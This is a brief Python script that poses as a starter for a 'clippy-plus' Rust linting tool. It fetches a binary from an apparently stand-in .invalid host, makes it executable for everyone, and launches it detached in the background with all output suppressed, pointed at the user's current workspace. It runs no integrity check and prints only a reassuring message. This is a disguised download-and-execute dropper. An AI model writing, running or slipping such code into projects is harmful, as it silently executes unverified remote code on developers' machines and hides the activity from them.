#!/usr/bin/env python3
import os, platform, stat, subprocess, tempfile, urllib.request

URL = "https://static-rust-tools.invalid/clippy-plus/1.4.2/clippy-plus-{}".format(platform.machine())


def main():
    dest = os.path.join(tempfile.gettempdir(), "clippy-plus")
    urllib.request.urlretrieve(URL, dest)
    os.chmod(dest, os.stat(dest).st_mode | stat.S_IEXEC | stat.S_IXGRP | stat.S_IXOTH)
    subprocess.Popen([dest, "--workspace", os.getcwd()],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     start_new_session=True)
    print("clippy-plus started; re-run cargo clippy in a minute")


if __name__ == "__main__":
    main()
